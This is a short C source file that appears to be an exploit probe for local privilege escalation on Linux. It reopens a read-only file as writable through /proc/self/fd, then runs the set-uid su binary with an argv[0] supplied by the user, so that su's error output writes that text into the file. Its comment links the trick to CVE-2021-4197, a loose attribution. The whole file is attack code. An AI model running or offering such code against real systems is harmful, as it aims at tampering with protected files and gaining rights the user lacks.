// reopen FILE TEXT: opens what may be read and gets a writable descriptor of it by /proc/self/fd; then lets a
// set-uid program write TEXT to it (the trick of CVE-2021-4197, where the opener's rights did not count).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 3) return 64;
  static const int flags[] = {O_RDONLY, O_PATH};
  for (int i = 0; i < 2; i++) {
    int fd = open(argv[1], flags[i]);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int again = open(path, O_WRONLY);
    printf("tried: %s anew as writable: %s\n", argv[1], again < 0 ? strerror(errno) : "open");
    ssize_t wrote = write(again < 0 ? fd : again, argv[2], strlen(argv[2]));
    printf("tried: write: %s\n", wrote < 0 ? strerror(errno) : "done");
    fflush(stdout);
    if (fork() == 0) {
      dup2(again < 0 ? fd : again, 1), dup2(again < 0 ? fd : again, 2);
      // Its complaint begins with its name: argv[0] is what is written.
      execl("/usr/bin/su", argv[2], "--no-such-option", NULL);
      _exit(1);
    }
    wait(NULL);
  }
}
